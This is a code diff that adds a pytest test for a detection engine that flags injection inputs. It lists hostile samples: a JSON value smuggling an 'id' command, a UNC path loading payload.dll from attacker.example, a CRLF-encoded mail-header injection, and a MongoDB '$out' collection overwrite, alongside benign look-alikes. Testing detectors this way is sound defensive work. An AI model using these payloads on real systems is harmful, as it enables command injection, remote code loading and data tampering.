@@ -2261,3 +2261,19 @@ def test_pasted_output_links_errors_and_component_templates(
 def test_review_of_session_16_exemptions(engine: DetectionEngine, value: str) -> None:
     """Each got through one of this session's template, CSV or GraphQL exemptions once."""
     assert engine.detect(value)["is_threat"]
+
+
+@pytest.mark.parametrize(("value", "flagged"), [
+    # From unseen attack set 20: a command closing a JSON string, a program loaded over SMB, a
+    # name whose encoded break adds a mail header, MongoDB's pipeline writing a collection.
+    ('{"host":"127.0.0.1\\nid"}', True),
+    ("\\\\attacker.example\\share\\payload.dll", True),
+    ("Bob%0d%0aReply-To:%20attacker@example.com", True),
+    ('[{"$out":"users"}]', True),
+    # A file server's document, a letter's copy line, a JSON sentence.
+    ("\\\\fs01\\share\\docs\\report.docx", False),
+    ("Thanks!\nCC: Maria", False),
+    ('{"note": "Sent to the lab, identified as sample 4."}', False),
+])
+def test_unseen_set_20_misses(engine: DetectionEngine, value: str, flagged: bool) -> None:
+    assert engine.detect(value)["is_threat"] is flagged
